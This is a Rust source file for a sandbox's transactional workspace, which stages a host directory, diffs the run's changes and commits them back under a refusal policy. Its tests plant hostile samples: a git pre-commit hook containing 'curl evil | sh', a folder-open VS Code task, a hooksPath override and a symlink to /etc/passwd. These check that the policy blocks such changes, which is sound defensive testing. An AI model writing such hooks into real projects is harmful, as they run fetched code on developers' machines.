//! The transactional workspace on the host: a read-write grant whose writes reach the host
//! only when the caller commits them.
//!
//! [`Workspace::stage`] copies the grant into a private staging directory
//! (`$TMPDIR/strata-ws-XXXXXXXXXXXX`, mode 0700) and records what it copied. The embedder
//! grants [`Workspace::path`] read-write to the run, at the guest path where the original
//! would have been mounted; this works for every backend, since each just sees an ordinary
//! directory. After the run, [`Workspace::diff`] lists what changed and
//! [`Workspace::commit`] writes all or part of it back under the policy of
//! [`sandbox_policy::workspace`]; [`Workspace::discard`] (or dropping the workspace)
//! removes the staging directory.
//!
//! The host grant is written through directory descriptors opened with `openat2`
//! (`RESOLVE_BENEATH | RESOLVE_NO_SYMLINKS`) from the descriptor of the grant taken at
//! staging: a symlink in the host grant (planted there after staging, or already there)
//! makes the paths beneath it fail; nothing is ever written outside the grant. Files are
//! written to a temporary name, synced and renamed over their destination.
//!
//! **The disk limit.** The bytes the commit would write (added and changed files, symlink
//! targets) are held to the limit given at staging, normally the run's `Limits::disk`: a
//! diff over it cannot be committed at all. During the run the staging directory is plain
//! host disk under `$TMPDIR` and nothing stops it from growing past the limit; to bound it
//! while the run goes on, stage with [`Workspace::stage_in`] on a file system with a quota
//! (a size-limited tmpfs), or poll [`Workspace::diff`] and cancel the run.
//!
//! Diff, commit and discard are meant for after the run has ended: the staging copy is
//! read without following symlinks, but a run still writing can change a file between the
//! diff and the commit (the commit then refuses it when its size changed).

use std::collections::{BTreeMap, BTreeSet};
use std::ffi::{OsStr, OsString};
use std::io::{self, Read, Write};
use std::os::fd::OwnedFd;
use std::os::unix::ffi::OsStrExt;
use std::path::{Component, Path, PathBuf};

use rustix::fs::{
    AtFlags, FileType, Mode, OFlags, RenameFlags, ResolveFlags, Stat, Timespec, Timestamps,
};
use rustix::io::Errno;
use sandbox_core::{ByteSize, Error, LimitKind, Result};
use sandbox_policy::workspace::{
    flags, plan, Change, ChangeKind, CommitMode, CommitPlan, CommitReport, Entry, Refusal, Refused,
    Selection, WorkspaceDiff,
};
use sha2::{Digest, Sha256};

type Hash = [u8; 32];

mod fs;

pub(crate) use fs::*;

/// What a path was when staged (or last committed).
#[derive(Clone, Debug, PartialEq, Eq)]
struct Original {
    entry: Entry,
    size: u64,
    /// `st_mode & 0o7777` on the host.
    mode: u32,
    /// Content hash of a regular file.
    hash: Option<Hash>,
}

/// A staged copy of a read-write grant. Dropping it removes the staging directory.
#[derive(Debug)]
pub struct Workspace {
    grant_dir: PathBuf,
    host: OwnedFd,
    base: PathBuf,
    root: PathBuf,
    staging: OwnedFd,
    limit: ByteSize,
    manifest: BTreeMap<PathBuf, Original>,
    skipped: Vec<(PathBuf, String)>,
    removed: bool,
}

impl Workspace {
    /// Stages `grant_dir` under `$TMPDIR` (see [`Workspace::stage_in`]).
    pub fn stage(grant_dir: &Path, limit: ByteSize) -> Result<Workspace> {
        Self::stage_in(grant_dir, &std::env::temp_dir(), limit)
    }

    /// Copies the directory `grant_dir` into a new private directory
    /// `strata-ws-XXXXXXXXXXXX` (mode 0700) under `parent`: files, directories and symlinks
    /// (as symlinks, never followed), permission bits without setuid/setgid, and
    /// modification times. Devices, FIFOs and sockets are not copied; they are listed in
    /// [`Workspace::skipped`]. `grant_dir` must be a directory reached without any symlink
    /// ([`Error::InvalidRequest`] otherwise: pass the grant's
    /// [`sandbox_core::ResolvedGrant::resolved`]); hard links are copied as separate files.
    /// The grant is held open from here on, so renaming it does not redirect the commit.
    /// A directory of the grant that cannot be read fails the staging.
    /// `limit` bounds what a commit may write (see [`WorkspaceDiff::over_limit`]).
    /// Nothing is left behind on error.
    pub fn stage_in(grant_dir: &Path, parent: &Path, limit: ByteSize) -> Result<Workspace> {
        let host = open_grant(grant_dir)?;
        let base = private_dir(parent)?;
        let root = base.join("root");
        let staging = std::fs::DirBuilder::new()
            .create(&root)
            .and_then(|()| open_private(&root));
        let staging = match staging {
            Ok(fd) => fd,
            Err(e) => {
                let _ = std::fs::remove_dir_all(&base);
                return Err(Error::internal(
                    format!("creating the workspace in {}", base.display()),
                    e,
                ));
            }
        };
        let mut workspace = Workspace {
            grant_dir: grant_dir.to_path_buf(),
            host,
            base,
            root,
            staging,
            limit,
            manifest: BTreeMap::new(),
            skipped: Vec::new(),
            removed: false,
        };
        workspace
            .copy_in()
            .map_err(|e| Error::internal(format!("staging {}", grant_dir.display()), e))?;
        Ok(workspace)
    }

    /// The staging directory: grant it read-write to the run in place of the original.
    pub fn path(&self) -> &Path {
        &self.root
    }

    /// The host directory this workspace was staged from and commits to.
    pub fn grant_dir(&self) -> &Path {
        &self.grant_dir
    }

    /// The limit on the bytes a commit may write.
    pub fn limit(&self) -> ByteSize {
        self.limit
    }

    /// Entries of the grant that were not staged (devices, FIFOs, sockets, files that
    /// vanished while staging), each with the reason. The run does not see them and a
    /// commit does not touch them.
    pub fn skipped(&self) -> &[(PathBuf, String)] {
        &self.skipped
    }

    /// Compares the staging directory with what was staged (or last committed), never
    /// following a symlink. Regular files are compared by content (SHA-256), not by time.
    /// A directory the run made unreadable fails the diff.
    pub fn diff(&self) -> Result<WorkspaceDiff> {
        let found = walk(&self.staging).map_err(|e| Error::internal("reading the workspace", e))?;
        let mut changes = Vec::new();
        let mut seen = BTreeSet::new();
        for item in &found {
            seen.insert(item.path.clone());
            let (kind, before) = match self.manifest.get(&item.path) {
                None => (ChangeKind::Added, None),
                Some(orig) if self.differs(item, orig)? => (ChangeKind::Changed, Some(orig.mode)),
                Some(_) => continue,
            };
            changes.push(self.change(
                &item.path,
                kind,
                item.entry.clone(),
                item.size,
                item.mode,
                before,
            ));
        }
        for (path, orig) in &self.manifest {
            if !seen.contains(path) {
                let (entry, size, mode) = (orig.entry.clone(), orig.size, orig.mode);
                changes.push(self.change(path, ChangeKind::Deleted, entry, size, mode, None));
            }
        }
        Ok(WorkspaceDiff::new(changes, self.limit.bytes()))
    }

    fn change(
        &self,
        path: &Path,
        kind: ChangeKind,
        entry: Entry,
        size: u64,
        mode: u32,
        before: Option<u32>,
    ) -> Change {
        Change {
            path: path.to_path_buf(),
            kind,
            flags: flags(&self.grant_dir, path, &entry, mode, before),
            entry,
            size,
            mode,
        }
    }

    /// Whether the staged `item` differs from `orig` (content, kind, target or bits).
    fn differs(&self, item: &Found, orig: &Original) -> Result<bool> {
        if item.entry != orig.entry || item.mode != orig.mode & 0o777 {
            return Ok(true);
        }
        if item.entry != Entry::File {
            return Ok(false);
        }
        if item.size != orig.size {
            return Ok(true);
        }
        let (hash, _) = hash_beneath(&self.staging, &item.path).map_err(|e| {
            Error::internal(
                format!("reading {} in the workspace", item.path.display()),
                e,
            )
        })?;
        Ok(Some(hash) != orig.hash)
    }

    /// Commits the changes of the current diff that `selection` takes, into the host grant.
    ///
    /// The policy ([`sandbox_policy::workspace::plan`]) refuses devices, FIFOs,
    /// sockets and symlinks leaving the grant always, and symlinks, setuid/setgid files and
    /// host-executed paths unless named in `accept_flagged`. Then each remaining change is
    /// checked against the host: a path that changed there since staging is a
    /// [`Refusal::Conflict`], a symlink or non-directory in the host grant above it a
    /// [`Refusal::HostPath`]. With [`CommitMode::AllOrNothing`] any refusal so far stops
    /// the whole commit before anything is written. Deletions are applied deepest first
    /// (a directory only when empty: never recursively), then additions and changes,
    /// parents first, creating missing parent directories. Setuid/setgid bits are dropped.
    ///
    /// A diff over the limit is refused whole with [`Error::LimitExceeded`] (disk).
    /// Committed paths become the new baseline, so a later commit (say, after accepting a
    /// refused path) applies only what is left.
    pub fn commit(
        &mut self,
        selection: &Selection,
        accept_flagged: &[PathBuf],
        mode: CommitMode,
    ) -> Result<CommitReport> {
        let diff = self.diff()?;
        if diff.over_limit {
            return Err(Error::LimitExceeded {
                limit: LimitKind::Disk,
            });
        }
        let mut plan = plan(&diff, selection, accept_flagged, mode);
        self.check_plan(&mut plan);
        if mode == CommitMode::AllOrNothing && !plan.refused.is_empty() {
            plan.refuse_all();
        }
        let mut report = CommitReport {
            unselected: plan.unselected,
            ..CommitReport::default()
        };
        self.apply_plan(plan.apply, &mut report);
        report.refused.splice(0..0, plan.refused);
        Ok(report)
    }

    /// Moves the changes the host no longer agrees with from `plan.apply` to
    /// `plan.refused`. Nothing is written.
    fn check_plan(&self, plan: &mut CommitPlan) {
        for change in std::mem::take(&mut plan.apply) {
            match self.check_host(&change) {
                Ok(()) => plan.apply.push(change),
                Err(reason) => plan.refused.push(Refused {
                    path: change.path,
                    reason,
                }),
            }
        }
    }

    /// Applies `changes`: deletions deepest first, then the rest parents first, then the
    /// bits of the directories written, deepest first (a read-only directory is filled
    /// before it becomes read-only; one whose bits cannot be set stays 0700, logged).
    fn apply_plan(&mut self, changes: Vec<Change>, report: &mut CommitReport) {
        let (mut deletes, writes): (Vec<Change>, Vec<Change>) = changes
            .into_iter()
            .partition(|c| c.kind == ChangeKind::Deleted);
        deletes.sort_by(|a, b| b.path.cmp(&a.path));
        let mut dirs = Vec::new();
        for change in deletes.iter().chain(writes.iter()) {
            match self.apply(change) {
                Ok(hash) => {
                    self.record(change, hash);
                    if change.entry == Entry::Dir && change.kind != ChangeKind::Deleted {
                        dirs.push(change);
                    }
                    if change.entry == Entry::File && change.mode & 0o6000 != 0 {
                        report.dropped_bits.push(change.path.clone());
                    }
                    report.applied.push(change.path.clone());
                }
                Err(reason) => report.refused.push(Refused {
                    path: change.path.clone(),
                    reason,
                }),
            }
        }
        for change in dirs.iter().rev() {
            if let Err(e) = self.set_dir_mode(&change.path, change.mode & 0o777) {
                tracing::warn!(path = %change.path.display(), error = %e, "workspace commit: could not set a directory's permissions");
            }
        }
    }

    /// Removes the staging directory and everything in it.
    pub fn discard(mut self) -> Result<()> {
        self.remove()
            .map_err(|e| Error::internal(format!("removing {}", self.base.display()), e))
    }

    fn remove(&mut self) -> io::Result<()> {
        if self.removed {
            return Ok(());
        }
        let base = open_private(&self.base)?;
        clear_dir(&base)?;
        drop(base);
        std::fs::remove_dir(&self.base)?;
        self.removed = true;
        Ok(())
    }

    /// Copies the host grant into the staging directory and fills the manifest.
    fn copy_in(&mut self) -> io::Result<()> {
        let mut dirs = Vec::new();
        for item in walk(&self.host)? {
            let (parent, name) = split(&item.path)?;
            let src = open_dir(&self.host, parent)?;
            let dst = open_dir(&self.staging, parent)?;
            let hash = match &item.entry {
                Entry::Dir => {
                    rustix::fs::mkdirat(&dst, name, Mode::from_raw_mode(0o700))?;
                    dirs.push((item.path.clone(), item.mode, item.stat));
                    None
                }
                Entry::File => match copy_file(&src, name, &dst, name) {
                    Ok(hash) => Some(hash),
                    Err(e) if e.kind() == io::ErrorKind::NotFound => {
                        self.skip(&item.path, "vanished while staging");
                        continue;
                    }
                    Err(e) => return Err(at(&item.path, e)),
                },
                Entry::Symlink { target } => {
                    rustix::fs::symlinkat(target.as_path(), &dst, name)?;
                    None
                }
                Entry::Device | Entry::Fifo | Entry::Socket => {
                    self.skip(&item.path, "a device, FIFO or socket: not staged");
                    continue;
                }
            };
            let original = Original {
                entry: item.entry.clone(),
                size: item.size,
                mode: item.mode,
                hash,
            };
            self.manifest.insert(item.path.clone(), original);
        }
        for (path, mode, stat) in dirs.iter().rev() {
            let fd = open_dir(&self.staging, path)?;
            rustix::fs::fchmod(&fd, Mode::from_raw_mode(mode & 0o777))?;
            rustix::fs::futimens(&fd, &times(stat))?;
        }
        let top = rustix::fs::fstat(&self.host)?;
        rustix::fs::fchmod(&self.staging, Mode::from_raw_mode(bits(&top) & 0o777))?;
        Ok(())
    }

    fn skip(&mut self, path: &Path, why: &str) {
        self.skipped.push((path.to_path_buf(), why.to_string()));
    }

    /// Whether the host still has what the change expects: nothing for an addition, the
    /// staged original for a change or deletion.
    fn check_host(&self, change: &Change) -> std::result::Result<(), Refusal> {
        let now = self.host_state(&change.path)?;
        match (change.kind, now) {
            (ChangeKind::Added, None) => Ok(()),
            (ChangeKind::Added, Some(now))
                if now.entry == Entry::Dir && change.entry == Entry::Dir =>
            {
                Ok(())
            }
            (ChangeKind::Added, Some(now)) => Err(conflict(format!(
                "the host has {} there now",
                describe(&now.entry)
            ))),
            (_, None) => Err(conflict("deleted on the host since staging".into())),
            (_, Some(now)) => {
                let same = self.manifest.get(&change.path).is_some_and(|orig| {
                    orig.entry == now.entry
                        && (orig.entry == Entry::Dir
                            || (orig.mode == now.mode
                                && orig.size == now.size
                                && orig.hash == now.hash))
                });
                if same {
                    Ok(())
                } else {
                    Err(conflict("changed on the host since staging".into()))
                }
            }
        }
    }

    /// What the host grant has at `path` now, or `None`.
    fn host_state(&self, path: &Path) -> std::result::Result<Option<Original>, Refusal> {
        let (parent, name) = split(path).map_err(|e| failed("its name", e))?;
        let dir = match open_dir(&self.host, parent) {
            Ok(dir) => dir,
            // A file where the parent was: absent here; an addition whose parent this commit
            // turns into a directory goes ahead, and applying it refuses it otherwise.
            Err(e)
                if e.kind() == io::ErrorKind::NotFound
                    || e.kind() == io::ErrorKind::NotADirectory =>
            {
                return Ok(None)
            }
            Err(e) => return Err(host_path(parent, e)),
        };
        let Some(stat) = lstat_at(&dir, name).map_err(|e| failed("looking it up", e))? else {
            return Ok(None);
        };
        let found =
            Found::new(&dir, path.to_path_buf(), stat).map_err(|e| failed("reading it", e))?;
        let hash = if found.entry == Entry::File {
            let file = open_file_at(&dir, name).map_err(|e| failed("reading it", e))?;
            Some(hash_file(file).map_err(|e| failed("reading it", e))?.0)
        } else {
            None
        };
        Ok(Some(Original {
            entry: found.entry,
            size: found.size,
            mode: found.mode,
            hash,
        }))
    }

    /// Applies one change to the host grant; returns the hash of a file written.
    fn apply(&self, change: &Change) -> std::result::Result<Option<Hash>, Refusal> {
        let (parent, name) = split(&change.path).map_err(|e| failed("its name", e))?;
        let dir = if change.kind == ChangeKind::Deleted {
            open_dir(&self.host, parent).map_err(|e| host_path(parent, e))?
        } else {
            self.host_dirs(parent)?
        };
        let hash = match (change.kind, &change.entry) {
            (ChangeKind::Deleted, Entry::Dir) => {
                rustix::fs::unlinkat(&dir, name, AtFlags::REMOVEDIR).map_err(|e| {
                    let why = if e == Errno::NOTEMPTY {
                        "removing it: not empty (a refused or unselected change, or a host file, lies beneath it)"
                    } else {
                        "removing it"
                    };
                    failed(why, e.into())
                })?;
                None
            }
            (ChangeKind::Deleted, _) => {
                rustix::fs::unlinkat(&dir, name, AtFlags::empty())
                    .map_err(|e| failed("removing it", e.into()))?;
                None
            }
            (_, Entry::Dir) => {
                put_dir(&dir, name).map_err(|e| failed("creating it", e))?;
                None
            }
            (_, Entry::File) => Some(self.put_file(&dir, name, change)?),
            (_, Entry::Symlink { target }) => {
                let added = change.kind == ChangeKind::Added;
                put_link(&dir, name, target, added).map_err(|e| failed("creating it", e))?;
                None
            }
            (_, _) => return Err(Refusal::Special),
        };
        rustix::fs::fsync(&dir).map_err(|e| failed("syncing its directory", e.into()))?;
        Ok(hash)
    }

    /// Opens the host directory `parent`, creating missing directories (with the bits of
    /// their staged copy, owner-writable) one component at a time, never through a symlink.
    fn host_dirs(&self, parent: &Path) -> std::result::Result<OwnedFd, Refusal> {
        let mut dir = open_dir(&self.host, Path::new("")).map_err(|e| failed("the grant", e))?;
        let mut sofar = PathBuf::new();
        for name in names(parent) {
            sofar.push(name);
            let next = match open_dir(&dir, Path::new(name)) {
                Err(e) if e.kind() == io::ErrorKind::NotFound => {
                    let mode = self.staged_dir_mode(&sofar) | 0o700;
                    match rustix::fs::mkdirat(&dir, name, Mode::from_raw_mode(mode)) {
                        Ok(()) | Err(Errno::EXIST) => {}
                        Err(e) => return Err(failed("creating its directory", e.into())),
                    }
                    open_dir(&dir, Path::new(name))
                }
                other => other,
            };
            dir = next.map_err(|e| host_path(&sofar, e))?;
        }
        Ok(dir)
    }

    fn staged_dir_mode(&self, path: &Path) -> u32 {
        open_dir(&self.staging, path)
            .and_then(|fd| Ok(rustix::fs::fstat(&fd)?))
            .map(|stat| bits(&stat) & 0o777)
            .unwrap_or(0o755)
    }

    fn set_dir_mode(&self, path: &Path, mode: u32) -> io::Result<()> {
        let fd = open_dir(&self.host, path)?;
        rustix::fs::fchmod(&fd, Mode::from_raw_mode(mode))?;
        Ok(())
    }

    /// Writes the staged file at `change.path` to `name` in `dir`: a temporary file,
    /// synced, renamed over the destination. Setuid/setgid bits are dropped.
    fn put_file(
        &self,
        dir: &OwnedFd,
        name: &OsStr,
        change: &Change,
    ) -> std::result::Result<Hash, Refusal> {
        let src = open_beneath(&self.staging, &change.path).map_err(|e| failed("reading it", e))?;
        let stat = rustix::fs::fstat(&src).map_err(|e| failed("reading it", e.into()))?;
        if FileType::from_raw_mode(stat.st_mode) != FileType::RegularFile
            || size(&stat) != change.size
        {
            return Err(failed(
                "reading it",
                io::Error::other("it changed during the commit"),
            ));
        }
        let tmp = temp_name();
        let out = rustix::fs::openat(
            dir,
            tmp.as_str(),
            OFlags::WRONLY | OFlags::CREATE | OFlags::EXCL | OFlags::NOFOLLOW | OFlags::CLOEXEC,
            Mode::from_raw_mode(0o600),
        )
        .map_err(|e| failed("creating it", e.into()))?;
        let written = fill(out, src, &stat, change.mode & 0o777).and_then(|hash| {
            replace(dir, &tmp, name, change.kind == ChangeKind::Added).map(|()| hash)
        });
        if written.is_err() {
            let _ = rustix::fs::unlinkat(dir, tmp.as_str(), AtFlags::empty());
        }
        written.map_err(|e| failed("writing it", e))
    }

    /// Makes `change` the new baseline after it was applied.
    fn record(&mut self, change: &Change, hash: Option<Hash>) {
        if change.kind == ChangeKind::Deleted {
            self.manifest.remove(&change.path);
            return;
        }
        let mode = match change.entry {
            Entry::Symlink { .. } => change.mode,
            _ => change.mode & 0o777,
        };
        let original = Original {
            entry: change.entry.clone(),
            size: if change.entry == Entry::Dir {
                0
            } else {
                change.size
            },
            mode,
            hash,
        };
        self.manifest.insert(change.path.clone(), original);
    }
}

impl Drop for Workspace {
    fn drop(&mut self) {
        if let Err(e) = self.remove() {
            tracing::warn!(path = %self.base.display(), error = %e, "could not remove a workspace's staging directory");
        }
    }
}

/// One entry found by [`walk`], described without following it.
#[derive(Clone, Debug)]
struct Found {
    path: PathBuf,
    stat: Stat,
    entry: Entry,
    /// A file's length, a symlink target's length, otherwise 0.
    size: u64,
    /// `st_mode & 0o7777`.
    mode: u32,
}

impl Found {
    /// Describes `path` (whose last component is in `dir`) from its `lstat`.
    fn new(dir: &OwnedFd, path: PathBuf, stat: Stat) -> io::Result<Found> {
        let name = path.file_name().unwrap_or_default();
        let entry = match FileType::from_raw_mode(stat.st_mode) {
            FileType::RegularFile => Entry::File,
            FileType::Directory => Entry::Dir,
            FileType::Symlink => {
                let target = rustix::fs::readlinkat(dir, name, Vec::new())?;
                Entry::Symlink {
                    target: PathBuf::from(OsStr::from_bytes(target.as_bytes())),
                }
            }
            FileType::CharacterDevice | FileType::BlockDevice => Entry::Device,
            FileType::Fifo => Entry::Fifo,
            _ => Entry::Socket,
        };
        let size = match &entry {
            Entry::File => size(&stat),
            Entry::Symlink { target } => target.as_os_str().len() as u64,
            _ => 0,
        };
        let mode = bits(&stat);
        Ok(Found {
            path,
            stat,
            entry,
            size,
            mode,
        })
    }
}

fn at(path: &Path, e: io::Error) -> io::Error {
    io::Error::new(e.kind(), format!("{}: {e}", path.display()))
}

fn describe(entry: &Entry) -> &'static str {
    match entry {
        Entry::File => "a file",
        Entry::Dir => "a directory",
        Entry::Symlink { .. } => "a symlink",
        Entry::Device => "a device",
        Entry::Fifo => "a FIFO",
        Entry::Socket => "a socket",
    }
}

fn conflict(detail: String) -> Refusal {
    Refusal::Conflict { detail }
}

fn failed(what: &str, e: io::Error) -> Refusal {
    if e.kind() == io::ErrorKind::AlreadyExists {
        return conflict(format!("{what}: it appeared on the host during the commit"));
    }
    Refusal::Failed {
        detail: format!("{what}: {e}"),
    }
}

/// The refusal for a host directory `path` that cannot be opened beneath the grant.
fn host_path(path: &Path, e: io::Error) -> Refusal {
    let shown = if path.as_os_str().is_empty() {
        Path::new(".")
    } else {
        path
    };
    let detail = match e.raw_os_error().map(Errno::from_raw_os_error) {
        Some(Errno::LOOP) => format!(
            "{}: a symlink in the host grant (not followed)",
            shown.display()
        ),
        Some(Errno::NOTDIR) => format!("{}: not a directory in the host grant", shown.display()),
        Some(Errno::XDEV) => format!("{}: leaves the host grant", shown.display()),
        _ => format!("{}: {e}", shown.display()),
    };
    Refusal::HostPath { detail }
}

#[cfg(test)]
mod tests {
    use std::fs;
    use std::os::unix::fs::{symlink, MetadataExt, PermissionsExt};

    use sandbox_core::ErrorKind;
    use sandbox_policy::workspace::Flag;

    use super::*;

    const LIMIT: ByteSize = ByteSize::mib(1);

    /// A grant directory and a private parent for the staging directory, in one tempdir.
    struct Fixture {
        _dir: tempfile::TempDir,
        grant: PathBuf,
        tmp: PathBuf,
        outside: PathBuf,
    }

    impl Fixture {
        fn new() -> Fixture {
            let dir = tempfile::tempdir().expect("tempdir");
            let grant = dir.path().join("grant");
            let tmp = dir.path().join("tmp");
            let outside = dir.path().join("outside");
            for path in [&grant, &tmp, &outside] {
                fs::create_dir(path).expect("mkdir");
            }
            Fixture {
                _dir: dir,
                grant,
                tmp,
                outside,
            }
        }

        /// Writes `content` at `rel` in the host grant, creating parents.
        fn host(&self, rel: &str, content: &[u8]) -> &Self {
            write(&self.grant, rel, content);
            self
        }

        fn stage(&self, limit: ByteSize) -> Workspace {
            Workspace::stage_in(&self.grant, &self.tmp, limit).expect("stage")
        }
    }

    fn write(root: &Path, rel: &str, content: &[u8]) {
        let path = root.join(rel);
        if let Some(parent) = path.parent() {
            fs::create_dir_all(parent).expect("mkdir -p");
        }
        fs::write(path, content).expect("write");
    }

    fn chmod(path: &Path, mode: u32) {
        fs::set_permissions(path, fs::Permissions::from_mode(mode)).expect("chmod");
    }

    fn mode_of(path: &Path) -> u32 {
        fs::symlink_metadata(path).expect("lstat").mode() & 0o7777
    }

    fn commit_all(ws: &mut Workspace, accept: &[&str]) -> CommitReport {
        let accept: Vec<PathBuf> = accept.iter().map(PathBuf::from).collect();
        ws.commit(&Selection::All, &accept, CommitMode::SkipRefused)
            .expect("commit")
    }

    fn refusal<'r>(report: &'r CommitReport, path: &str) -> Option<&'r Refusal> {
        report.refusal(Path::new(path))
    }

    /// Every entry beneath `root`: kind, permission bits and content (or link target).
    fn snapshot(root: &Path) -> BTreeMap<PathBuf, (char, u32, Vec<u8>)> {
        let mut out = BTreeMap::new();
        let mut pending = vec![root.to_path_buf()];
        while let Some(dir) = pending.pop() {
            for entry in fs::read_dir(&dir).expect("read_dir") {
                let path = entry.expect("entry").path();
                let meta = fs::symlink_metadata(&path).expect("lstat");
                let rel = path.strip_prefix(root).expect("beneath").to_path_buf();
                let mode = meta.mode() & 0o7777;
                let value = if meta.file_type().is_symlink() {
                    let target = fs::read_link(&path).expect("readlink");
                    ('l', mode, target.as_os_str().as_bytes().to_vec())
                } else if meta.is_dir() {
                    pending.push(path);
                    ('d', mode, Vec::new())
                } else {
                    ('f', mode, fs::read(&path).expect("read"))
                };
                out.insert(rel, value);
            }
        }
        out
    }

    #[test]
    fn planted_git_hook_is_refused_by_commit_all() {
        let fx = Fixture::new();
        fx.host(".git/HEAD", b"ref: refs/heads/main\n")
            .host(".git/hooks/pre-commit.sample", b"#!/bin/sh\n")
            .host("src/main.rs", b"fn main() {}\n");
        let mut ws = fx.stage(LIMIT);
        write(
            ws.path(),
            "src/main.rs",
            b"fn main() { println!(\"hi\"); }\n",
        );
        write(
            ws.path(),
            ".git/hooks/pre-commit",
            b"#!/bin/sh\ncurl evil | sh\n",
        );
        chmod(&ws.path().join(".git/hooks/pre-commit"), 0o755);
        write(
            ws.path(),
            ".vscode/tasks.json",
            b"{\"runOn\": \"folderOpen\"}",
        );

        let diff = ws.diff().expect("diff");
        let hook = diff
            .get(Path::new(".git/hooks/pre-commit"))
            .expect("in the diff");
        assert_eq!(hook.kind, ChangeKind::Added);
        assert!(hook
            .flags
            .iter()
            .any(|f| matches!(f, Flag::HostExecuted { entry, .. } if entry == ".git/hooks")));

        let report = commit_all(&mut ws, &[]);
        assert_eq!(report.applied, [PathBuf::from("src/main.rs")]);
        for planted in [".git/hooks/pre-commit", ".vscode", ".vscode/tasks.json"] {
            assert!(
                matches!(refusal(&report, planted), Some(Refusal::NotAccepted { .. })),
                "{planted}: {report:?}"
            );
            assert!(
                !fx.grant.join(planted).exists(),
                "{planted} reached the host"
            );
        }
        assert_eq!(
            fs::read(fx.grant.join("src/main.rs")).expect("read"),
            b"fn main() { println!(\"hi\"); }\n"
        );

        // Named explicitly, the hook is committed as reviewed (exec bits kept).
        let report = commit_all(&mut ws, &[".git/hooks/pre-commit"]);
        assert_eq!(report.applied, [PathBuf::from(".git/hooks/pre-commit")]);
        let hook = fx.grant.join(".git/hooks/pre-commit");
        assert_eq!(
            fs::read(&hook).expect("read"),
            b"#!/bin/sh\ncurl evil | sh\n"
        );
        assert_eq!(mode_of(&hook), 0o755);
        assert!(!fx.grant.join(".vscode").exists());
    }

    #[test]
    fn all_or_nothing_applies_nothing_when_a_hook_is_planted() {
        let fx = Fixture::new();
        fx.host("a.txt", b"one").host(".git/config", b"[core]\n");
        let mut ws = fx.stage(LIMIT);
        write(ws.path(), "a.txt", b"two");
        write(ws.path(), ".git/config", b"[core]\nhooksPath = /tmp/x\n");
        let report = ws
            .commit(&Selection::All, &[], CommitMode::AllOrNothing)
            .expect("commit");
        assert!(report.applied.is_empty());
        assert_eq!(refusal(&report, "a.txt"), Some(&Refusal::AllOrNothing));
        assert_eq!(fs::read(fx.grant.join("a.txt")).expect("read"), b"one");
        assert_eq!(
            fs::read(fx.grant.join(".git/config")).expect("read"),
            b"[core]\n"
        );
    }

    #[test]
    fn symlink_out_of_the_grant_is_never_followed_on_commit() {
        let fx = Fixture::new();
        fx.host("out/keep.txt", b"keep");
        let mut ws = fx.stage(LIMIT);
        write(ws.path(), "out/x", b"payload");
        write(ws.path(), "out/keep.txt", b"edited");
        write(ws.path(), "fresh/y", b"payload");
        // After staging, the host's `out` becomes a symlink out of the grant, and a
        // `fresh` appears as one too.
        fs::rename(fx.grant.join("out"), fx.grant.join("out.old")).expect("rename");
        symlink(&fx.outside, fx.grant.join("out")).expect("symlink");
        symlink(&fx.outside, fx.grant.join("fresh")).expect("symlink");

        let report = commit_all(&mut ws, &[]);
        assert!(report.applied.is_empty(), "{report:?}");
        for path in ["out/x", "fresh/y"] {
            assert!(
                matches!(refusal(&report, path), Some(Refusal::HostPath { detail }) if detail.contains("symlink")),
                "{path}: {report:?}"
            );
        }
        assert!(matches!(
            refusal(&report, "fresh"),
            Some(Refusal::Conflict { .. })
        ));
        assert!(matches!(
            refusal(&report, "out/keep.txt"),
            Some(Refusal::HostPath { .. })
        ));
        assert_eq!(
            fs::read_dir(&fx.outside).expect("ls").count(),
            0,
            "nothing written outside"
        );
        assert!(fs::symlink_metadata(fx.grant.join("out"))
            .expect("lstat")
            .file_type()
            .is_symlink());
    }

    #[test]
    fn a_symlinked_grant_path_is_refused() {
        let fx = Fixture::new();
        let link = fx.tmp.join("link");
        symlink(&fx.grant, &link).expect("symlink");
        let err = Workspace::stage_in(&link, &fx.tmp, LIMIT).expect_err("refused");
        assert_eq!(err.kind(), ErrorKind::InvalidRequest);
        assert!(err.to_string().contains("symlink"), "{err}");
        assert_eq!(
            fs::read_dir(&fx.tmp).expect("ls").count(),
            1,
            "only the link"
        );
    }

    #[test]
    fn planted_symlink_in_the_diff_is_flagged_and_not_committed_by_default() {
        let fx = Fixture::new();
        fx.host("src/main.rs", b"fn main() {}\n")
            .host("old-link-target", b"x");
        symlink("old-link-target", fx.grant.join("kept")).expect("symlink");
        let mut ws = fx.stage(LIMIT);
        assert!(
            fs::symlink_metadata(ws.path().join("kept"))
                .expect("lstat")
                .file_type()
                .is_symlink(),
            "staged as a symlink"
        );
        symlink("/etc/passwd", ws.path().join("escape")).expect("symlink");
        symlink("../../x", ws.path().join("src/up")).expect("symlink");
        symlink("src/main.rs", ws.path().join("inside")).expect("symlink");

        let diff = ws.diff().expect("diff");
        assert_eq!(diff.changes.len(), 3, "{diff:?}");
        let escape = diff.get(Path::new("escape")).expect("escape");
        assert!(
            escape.flags.contains(&Flag::Symlink)
                && escape.flags.contains(&Flag::SymlinkOutOfGrant)
        );
        let inside = diff.get(Path::new("inside")).expect("inside");
        assert_eq!(inside.flags, [Flag::Symlink]);

        let report = commit_all(&mut ws, &[]);
        assert!(report.applied.is_empty());
        assert_eq!(report.refused.len(), 3);
        let report = commit_all(&mut ws, &["escape", "src/up", "inside"]);
        assert_eq!(report.applied, [PathBuf::from("inside")]);
        assert!(matches!(
            refusal(&report, "escape"),
            Some(Refusal::SymlinkOutOfGrant { .. })
        ));
        assert!(matches!(
            refusal(&report, "src/up"),
            Some(Refusal::SymlinkOutOfGrant { .. })
        ));
        assert_eq!(
            fs::read_link(fx.grant.join("inside")).expect("link"),
            Path::new("src/main.rs")
        );
        assert!(fs::symlink_metadata(fx.grant.join("escape")).is_err());
    }

    #[test]
    fn setuid_bit_is_dropped_on_commit() {
        let fx = Fixture::new();
        fx.host("suid", b"#!/bin/sh\n");
        chmod(&fx.grant.join("suid"), 0o4755);
        let mut ws = fx.stage(LIMIT);
        assert_eq!(mode_of(&ws.path().join("suid")), 0o755, "not staged setuid");
        assert!(ws.diff().expect("diff").is_empty());
        write(ws.path(), "tool", b"\x7fELF");
        chmod(&ws.path().join("tool"), 0o4755);
        write(ws.path(), "group-tool", b"\x7fELF");
        chmod(&ws.path().join("group-tool"), 0o2755);

        let report = commit_all(&mut ws, &[]);
        assert!(report.applied.is_empty());
        for path in ["tool", "group-tool"] {
            assert!(
                matches!(refusal(&report, path), Some(Refusal::NotAccepted { .. })),
                "{path}"
            );
        }
